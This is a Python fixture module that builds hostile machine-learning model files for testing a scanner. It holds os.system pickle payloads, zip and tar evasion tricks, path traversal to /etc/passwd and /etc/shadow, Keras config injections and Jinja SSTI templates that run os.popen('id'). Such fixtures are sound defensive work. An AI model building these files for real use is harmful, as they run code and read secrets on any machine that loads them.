"""Builders of hostile model containers, by code (never downloaded, never loaded). Shared with
bench/models.py.

Every builder returns ``{relative path: bytes}``; the payload pickle calls ``os.system`` (never executed: the
files are only written and scanned).
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

PAYLOAD_CMD = "echo loopwarden-corpus"


def evil_pickle(proto: int = 2, cmd: str = PAYLOAD_CMD) -> bytes:
    """GLOBAL os.system + REDUCE, the classic payload (protocol 0 text form or a protocol 2+ PROTO header)."""
    arg = cmd.encode()
    body = b"cos\nsystem\n(" + b"X" + struct.pack("<I", len(arg)) + arg + b"tR."
    if proto == 0:
        return b"cos\nsystem\n(V" + arg + b"\ntR."
    return b"\x80" + bytes([proto]) + body


def benign_pickle() -> bytes:
    return b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."


def torch_zip(
    pkl: bytes,
    *,
    root: str = "archive",
    extra: dict[str, bytes] | None = None,
    method: int = zipfile.ZIP_STORED,
) -> bytes:
    """The layout torch.save writes: <root>/data.pkl, <root>/byteorder, <root>/data/0, <root>/version."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        z.writestr(f"{root}/data.pkl", pkl)
        z.writestr(f"{root}/byteorder", b"little")
        z.writestr(f"{root}/data/0", b"\x00" * 64)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
        z.writestr(f"{root}/version", b"3\n")
        z.writestr(f"{root}/.data/serialization_id", b"1234567890")
    return buf.getvalue()


def _cd_entries(data: bytes) -> list[tuple[int, str, int]]:
    """(central directory entry offset, name, local header offset) of each member."""
    z = zipfile.ZipFile(io.BytesIO(data))
    cd_start = z.start_dir  # type: ignore[attr-defined]
    out = []
    pos = cd_start
    for _ in z.infolist():
        n, m, k = struct.unpack_from("<HHH", data, pos + 28)
        (hoff,) = struct.unpack_from("<I", data, pos + 42)
        out.append((pos, data[pos + 46 : pos + 46 + n].decode(), hoff))
        pos += 46 + n + m + k
    return out


def patch_member(
    data: bytes,
    name: str,
    *,
    central: Callable[[bytearray, int], None] | None = None,
    local: Callable[[bytearray, int], None] | None = None,
) -> bytes:
    out = bytearray(data)
    for cd, n, hoff in _cd_entries(data):
        if n == name:
            if central:
                central(out, cd)
            if local:
                local(out, hoff)
    return bytes(out)


def set_flags(data: bytes, name: str, bits: int, *, central: bool = True, local: bool = True) -> bytes:
    def c(b: bytearray, off: int) -> None:
        struct.pack_into("<H", b, off + 8, struct.unpack_from("<H", b, off + 8)[0] | bits)

    def lo(b: bytearray, off: int) -> None:
        struct.pack_into("<H", b, off + 6, struct.unpack_from("<H", b, off + 6)[0] | bits)

    return patch_member(data, name, central=c if central else None, local=lo if local else None)


def break_crc(data: bytes, name: str) -> bytes:
    def c(b: bytearray, off: int) -> None:
        struct.pack_into("<I", b, off + 16, struct.unpack_from("<I", b, off + 16)[0] ^ 0xDEADBEEF)

    def lo(b: bytearray, off: int) -> None:
        struct.pack_into("<I", b, off + 14, struct.unpack_from("<I", b, off + 14)[0] ^ 0xDEADBEEF)

    return patch_member(data, name, central=c, local=lo)


def rename_local(data: bytes, name: str, new: str) -> bytes:
    assert len(new) == len(name)

    def lo(b: bytearray, off: int) -> None:
        n = struct.unpack_from("<H", b, off + 26)[0]
        b[off + 30 : off + 30 + n] = new.encode()

    return patch_member(data, name, local=lo)


def hide_member(data: bytes, hidden_name: str, content: bytes) -> bytes:
    """Insert a local file entry that the central directory does not list (before the directory)."""
    z = zipfile.ZipFile(io.BytesIO(data))
    cd_start = z.start_dir  # type: ignore[attr-defined]
    name = hidden_name.encode()
    local = (
        struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            0,
            0,
            0,
            zlib.crc32(content),
            len(content),
            len(content),
            len(name),
            0,
        )
        + name
        + content
    )
    shift = len(local)
    out = bytearray(data[:cd_start] + local + data[cd_start:])
    eocd = out.rfind(b"PK\x05\x06")
    (cd_off,) = struct.unpack_from("<I", out, eocd + 16)
    struct.pack_into("<I", out, eocd + 16, cd_off + shift)
    return bytes(out)


def zip_of(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for n, d in files.items():
            z.writestr(n, d)
    return buf.getvalue()


def tar_of(files: dict[str, bytes], mode: str = "w:gz", links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:  # type: ignore[call-overload]
        for n, d in files.items():
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
        for n, target in (links or {}).items():
            info = tarfile.TarInfo(n)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            t.addfile(info)
    return buf.getvalue()


def npy_object(pkl: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (3,), }"
    header += " " * (64 - (10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pkl


def torch_legacy(pickles: list[bytes]) -> bytes:
    """Legacy (non-zip) torch.save: magic, protocol, sys info, model, storage keys, then raw storage."""
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    proto = b"\x80\x02M\xe9\x03."
    sysinfo = b"\x80\x02}q\x00(X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03u."
    parts = [magic, proto, sysinfo, *pickles]
    while len(parts) < 5:
        parts.append(b"\x80\x02]q\x00.")
    return b"".join(parts) + b"\x00" * 32


def keras_zip(config: dict[str, object]) -> bytes:
    return zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.5.0", "date_saved": "2024-01-01"}).encode(),
            "config.json": json.dumps(config).encode(),
        }
    )


def keras_lambda_config() -> dict[str, object]:
    code = base64.b64encode(b"\xe3" + b"\x00" * 40).decode()  # the shape of marshalled bytecode; never loaded
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "seq",
            "layers": [
                {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 2]}},
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "function": {"class_name": "__lambda__", "config": {"value": code}},
                    },
                },
            ],
        },
    }


def keras_module_injection_config(module: str = "os", fn: str = "system") -> dict[str, object]:
    return {
        "module": "keras.models",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Dense",
                    "config": {
                        "units": 1,
                        "activation": {
                            "module": module,
                            "class_name": "function",
                            "config": fn,
                            "registered_name": fn,
                        },
                    },
                }
            ]
        },
    }


def keras_get_file_config() -> dict[str, object]:
    return {
        "module": "keras.models",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Dense",
                    "config": {
                        "units": 1,
                        "kernel_initializer": {
                            "module": "keras.utils",
                            "class_name": "function",
                            "config": "get_file",
                            "registered_name": "get_file",
                        },
                    },
                }
            ]
        },
    }


def keras_function_config(module: str, name: str) -> dict[str, object]:
    """A Dense layer whose initializer is {"class_name": "function", "config": name}: Keras looks the name up in
    ``module`` while loading; no registered_name spells it out."""
    cfg = keras_get_file_config()
    init = cfg["config"]["layers"][0]["config"]["kernel_initializer"]  # type: ignore[index]
    init.update(module=module, config=name)
    init.pop("registered_name")
    return cfg


def keras_lookup_path_config(layer: str = "StringLookup", path: str = "/etc/passwd") -> dict[str, object]:
    """A lookup layer whose vocabulary is a path: Keras reads that file (or URL) while loading."""
    return {
        "module": "keras.models",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {"module": "keras.layers", "class_name": layer, "config": {"name": "lk", "vocabulary": path}}
            ]
        },
    }


# ------------------------------------------------------------------------------------------------ protobuf


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def _field(num: int, payload: bytes) -> bytes:
    return _varint(num << 3 | 2) + _varint(len(payload)) + payload


def sentencepiece_model(pieces: list[str] | None = None) -> bytes:
    """A SentencePiece ModelProto (tokenizer.model) in protobuf wire format: pieces, trainer and normalizer."""
    out = b""
    for i, text in enumerate(pieces or ["<unk>", "<s>", "</s>", "\u2581the", "\u2581of", "ing"]):
        kind = 2 if i == 0 else 3 if i < 3 else 1  # UNKNOWN, CONTROL, NORMAL
        piece = _field(1, text.encode()) + b"\x15" + struct.pack("<f", -float(i)) + b"\x18" + bytes([kind])
        out += _field(1, piece)
    out += _field(2, _field(1, b"train.txt") + b"\x18\x02")  # trainer_spec: input, model_type BPE
    out += _field(3, _field(1, b"nmt_nfkc") + b"\x18\x01")  # normalizer_spec: name, add_dummy_prefix
    return out


def onnx_model(location: str | None = None, domain: str = "") -> bytes:
    """A minimal ModelProto: one Identity node, one initializer (inline or external data at ``location``)."""
    tensor = _field(8, b"W") + _varint(1 << 3 | 0) + _varint(1) + _varint(2 << 3 | 0) + _varint(1)
    if location is not None:
        tensor += _field(13, _field(1, b"location") + _field(2, location.encode()))
        tensor += _varint(14 << 3 | 0) + _varint(1)
    else:
        tensor += _field(9, b"\x00\x00\x80\x3f")
    node = (
        _field(1, b"W")
        + _field(2, b"Y")
        + _field(4, b"Identity")
        + (_field(7, domain.encode()) if domain else b"")
    )
    graph = _field(1, node) + _field(2, b"g") + _field(5, tensor)
    opset = (
        _field(1, domain.encode()) + _varint(2 << 3 | 0) + _varint(1)
        if domain
        else _varint(2 << 3) + _varint(17)
    )
    return _varint(1 << 3 | 0) + _varint(8) + _field(2, b"corpus") + _field(7, graph) + _field(8, opset)


# ------------------------------------------------------------------------------------------------ gguf


def gguf_file(template: str | None, *, version: int = 3, extra_kv: bytes = b"", n_kv_extra: int = 0) -> bytes:
    def s(t: str) -> bytes:
        b = t.encode()
        return struct.pack("<Q", len(b)) + b

    kvs = b""
    n = 0
    kvs += s("general.architecture") + struct.pack("<I", 8) + s("llama")
    n += 1
    if template is not None:
        kvs += s("tokenizer.chat_template") + struct.pack("<I", 8) + s(template)
        n += 1
    kvs += extra_kv
    n += n_kv_extra
    head = b"GGUF" + struct.pack("<IQQ", version, 1, n)
    tinfo = s("w") + struct.pack("<I", 1) + struct.pack("<Q", 4) + struct.pack("<I", 0) + struct.pack("<Q", 0)
    body = head + kvs + tinfo
    body += b"\x00" * (-len(body) % 32)
    return body + b"\x00" * 16


SSTI_TEMPLATES = {
    "dunder_class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr_filter": "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "concat_item": "{% set a = '__cla' ~ 'ss__' %}{{ messages[a] }}",
    "cycler_globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "llama_drama": (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"
    ),
    "joiner_format": "{{ joiner.__init__.__globals__ }}",
    "item_escape": "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f'] }}",
    "reverse_filter": "{{ (messages|first)[('__ssalc__'|reverse)] }}",
    # names built without any constant that spells them (found in this project's own review)
    "kwarg_name": "{{ ''[dict(__class__=1)|first] }}",
    "str_format": "{{ ''['{0}{0}class{0}{0}'.format('_')] }}",
    "printf_chars": "{{ ''['%c%cclass%c%c'|format(95, 95, 95, 95)] }}",
    "format_fill": "{{ ''['{0:_^9}'.format('class')] }}",
    "block_set": "{% set k %}__cla{{ 'ss' }}__{% endset %}{{ ''[k] }}",
    "indent_first": "{{ ''['class'|indent('__', true) ~ '__'] }}",
    "groupby_private": "{{ (messages|groupby('_module'))[0].grouper }}",
    "map_attr": "{{ messages|map('attr', '_module')|list }}",
}


def safetensors_file(header: dict[str, object] | bytes, data: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def compress(kind: str, data: bytes) -> bytes:
    if kind == "gzip":
        return gzip.compress(data)
    if kind == "zlib":
        return zlib.compress(data)
    if kind == "bz2":
        return bz2.compress(data)
    if kind == "xz":
        return lzma.compress(data)
    if kind == "lzma":
        return lzma.compress(data, format=lzma.FORMAT_ALONE)
    raise ValueError(kind)


def malicious_corpus() -> dict[str, dict[str, bytes]]:
    """Every container attack as {case name: {file name: bytes}} (for the benchmark and the tests)."""
    evil = evil_pickle()
    tz = torch_zip(evil)
    cases: dict[str, dict[str, bytes]] = {
        "pickle_proto0": {"model.pkl": evil_pickle(0)},
        "pickle_proto4": {"model.pkl": evil_pickle(4)},
        "torch_zip_data_pkl": {"model.pt": tz},
        "torch_zip_deflated": {"model.pt": torch_zip(evil, method=zipfile.ZIP_DEFLATED)},
        "zip_flag_bit_encrypted": {"model.pt": set_flags(tz, "archive/data.pkl", 0x1)},
        "zip_flag_bit_central_only": {"model.pt": set_flags(tz, "archive/data.pkl", 0x1, local=False)},
        "zip_crc_broken": {"model.pt": break_crc(tz, "archive/data.pkl")},
        "zip_local_name_differs": {
            "model.pt": rename_local(torch_zip(evil), "archive/data.pkl", "archive/data.pkx")
        },
        "zip_hidden_local_member": {
            "model.pt": hide_member(torch_zip(benign_pickle()), "archive/x.pkl", evil)
        },
        "zip_duplicate_data_pkl": {"model.pt": torch_zip(benign_pickle(), extra={"archive/data.pkl": evil})},
        "torch_extra_pickle_member": {
            "model.pt": torch_zip(benign_pickle(), extra={"archive/extra/weights.bin": evil})
        },
        "torch_two_roots": {"model.pt": torch_zip(benign_pickle(), extra={"other/data.pkl": evil})},
        "pickle_named_bin": {"pytorch_model.bin": evil},
        "pickle_named_safetensors": {"model.safetensors": evil},
        "zip_named_bin": {"pytorch_model.bin": tz},
        "pickle_prepended_to_zip": {"model.pt": evil + torch_zip(benign_pickle())},
        "pickle_appended_to_zip": {"model.pt": torch_zip(benign_pickle()) + evil},
        "nested_zip": {"bundle.zip": zip_of({"inner/model.pt": tz})},
        "nested_zip_twice": {"bundle.zip": zip_of({"a.zip": zip_of({"b/model.pt": tz})})},
        "tar_gz_pickle": {"model.tar.gz": tar_of({"model/weights.pkl": evil})},
        "tar_plain_torch": {"model.tar": tar_of({"model.pt": tz}, mode="w")},
        "tar_symlink_escape": {
            "model.tar": tar_of({"a.txt": b"x"}, mode="w", links={"model.pt": "../../etc/passwd"})
        },
        "zip_path_traversal": {"model.zip": zip_of({"../../evil.pkl": evil})},
        "numpy_object_array": {"arr.npy": npy_object(evil)},
        "npz_object_member": {"arrs.npz": zip_of({"a.npy": npy_object(evil)})},
        "joblib_zlib": {"model.joblib": compress("zlib", evil)},
        "joblib_gzip": {"model.joblib": compress("gzip", evil)},
        "joblib_bz2": {"model.joblib": compress("bz2", evil)},
        "joblib_xz": {"model.joblib": compress("xz", evil)},
        "joblib_lzma": {"model.joblib": compress("lzma", evil)},
        "torch_legacy_model_pickle": {"model.pt": torch_legacy([evil])},
        "keras_lambda": {"model.keras": keras_zip(keras_lambda_config())},
        "keras_module_injection": {"model.keras": keras_zip(keras_module_injection_config())},
        "keras_get_file": {"model.keras": keras_zip(keras_get_file_config())},
        "keras_get_file_by_config_name": {
            "model.keras": keras_zip(keras_function_config("keras.utils", "get_file"))
        },
        "keras_enable_unsafe_deserialization": {
            "model.keras": keras_zip(keras_function_config("keras.config", "enable_unsafe_deserialization"))
        },
        "keras_lookup_vocabulary_path": {"model.keras": keras_zip(keras_lookup_path_config())},
        "onnx_external_traversal": {"model.onnx": onnx_model("../../../../etc/passwd")},
        "onnx_external_absolute": {"model.onnx": onnx_model("/etc/shadow")},
        "safetensors_overlap": {
            "model.safetensors": safetensors_file(
                {
                    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                    "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
                },
                b"\x00" * 12,
            )
        },
        "safetensors_trailing_pickle": {
            "model.safetensors": safetensors_file(
                {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\x00" * 4 + evil
            )
        },
    }
    cases.update(loader_differential_cases())
    for name, tmpl in SSTI_TEMPLATES.items():
        cases[f"gguf_ssti_{name}"] = {"model.gguf": gguf_file(tmpl)}
    cases["tokenizer_config_ssti"] = {
        "tokenizer_config.json": json.dumps({"chat_template": SSTI_TEMPLATES["dunder_class"]}).encode()
    }
    return cases


def _call_p0(cmd: str = PAYLOAD_CMD) -> bytes:
    """os.system(cmd) in protocol-0 opcodes, leaving the result on the stack."""
    return b"cos\nsystem\n(V" + cmd.encode() + b"\ntR"


def _joblib_wrapper(shape_opcodes: bytes) -> bytes:
    """A joblib NumpyArrayWrapper (uint8, one dimension pushed by ``shape_opcodes``) with its BUILD."""

    def s0(text: str) -> bytes:
        return b"S'" + text.encode() + b"'\n"

    dtype = (
        b"cnumpy\ndtype\n("
        + s0("u1")
        + b"I00\nI01\ntR(K\x03"
        + s0("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    return (
        b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
        + s0("subclass")
        + b"cnumpy\nndarray\n"
        + s0("shape")
        + shape_opcodes
        + b"\x85"
        + s0("order")
        + s0("C")
        + s0("dtype")
        + dtype
        + s0("allow_mmap")
        + b"\x88ub"
    )


def npy_with_descr(descr: str, pkl: bytes) -> bytes:
    """An .npy whose header names ``descr`` (any spelling numpy accepts), followed by ``pkl``."""
    header = ("{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }").encode("latin-1")
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pkl


def loader_differential_cases() -> dict[str, dict[str, bytes]]:
    """Bytes that two loaders read differently, each benign to one reading and a payload to another."""
    call = _call_p0()
    # joblib skips the "array data"; pickle.load and torch.load run it
    wrapped = (
        b"\x80\x02}V" + b"a\n" + _joblib_wrapper(b"J" + struct.pack("<i", len(call) + 1)) + call + b"0s."
    )
    # joblib sizes the array from a long hex INT; a scanner that shortens it reads other bytes than joblib runs
    array = b"B" + struct.pack("<I", len(call) + 1) + b"\x00" * 16
    hexint = b"I0x" + b"0" * 70 + b"15\n"
    desync = b"\x80\x02}V" + b"a\n" + _joblib_wrapper(hexint) + array + call + b"0s."
    payload = call + b"."
    msgpack_entries = b"k0000" + b"\xd9" + bytes([91]) + b"v" * 91
    for i in range(1, 10):
        msgpack_entries += b"\xa5" + f"k{i:04}".encode() + (b"\xc0" if i < 9 else b"")
    msgpack_entries += b"\xc6" + struct.pack(">I", len(payload))
    lambda_config = json.dumps(keras_lambda_config()).encode()
    return {
        "joblib_array_data_run_by_pickle_load": {"model.pkl": wrapped},
        "joblib_array_data_run_by_torch_load": {"pytorch_model.bin": wrapped},
        "joblib_long_hex_array_size": {"model.joblib": desync},
        "joblib_long_hex_array_size_gz": {"model.joblib": compress("gzip", desync)},
        "polyglot_gif_pickle": {"model.bin": b"GIF89a\x01\x00\x01" + b"0" + payload + b"\x00" * 32},
        "polyglot_msgpack_pickle": {"flax_model.msgpack": b"\x8a\xa5" + msgpack_entries + payload},
        "polyglot_gguf_pickle": {
            "model.gguf": b"GGUF\x03\x00\x00\x00" + b"0" + payload + gguf_file(None)[9:]
        },
        "npy_object_descr_word": {"arr.npy": npy_with_descr("'object'", evil_pickle())},
        "npy_object_descr_subarray": {"arr.npy": npy_with_descr("'(1,)O'", evil_pickle())},
        "npy_object_field_word": {"arr.npy": npy_with_descr("[('a', 'object')]", evil_pickle())},
        "npz_object_descr_word": {"arrs.npz": zip_of({"a.npy": npy_with_descr("'object_'", evil_pickle())})},
        "keras_config_behind_bom": {"config.json": b"\xef\xbb\xbf" + lambda_config},
        "sklearn_pattern_reexport_called": {
            "model.pkl": b"\x80\x02csklearn.callback._transport\nClient\n((V127.0.0.1\nJ\x90\x1f\x00\x00tR."
        },
        "transformers_tokenizer_reads_file": {
            "model.pkl": b"\x80\x02ctransformers.models.bert.tokenization_bert_legacy\nBertTokenizerLegacy\n"
            b"(V/etc/passwd\ntR."
        },
    }


def onnx_naming_raw_data(folder: Path, files: dict[str, bytes]) -> None:
    """Write ``files`` into ``folder`` and an ONNX model there that names each of them as a tensor's raw data."""
    from onnx import TensorProto, helper

    tensors = []
    for name, raw in files.items():
        (folder / name).write_bytes(raw)
        t = TensorProto(name=name, data_type=TensorProto.UINT8, dims=[len(raw)])
        t.data_location = TensorProto.EXTERNAL
        for key, value in (("location", name), ("offset", "0"), ("length", str(len(raw)))):
            entry = t.external_data.add()
            entry.key, entry.value = key, value
        tensors.append(t)
    graph = helper.make_graph([], "g", [], [], initializer=tensors)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    (folder / "model.onnx").write_bytes(model.SerializeToString())
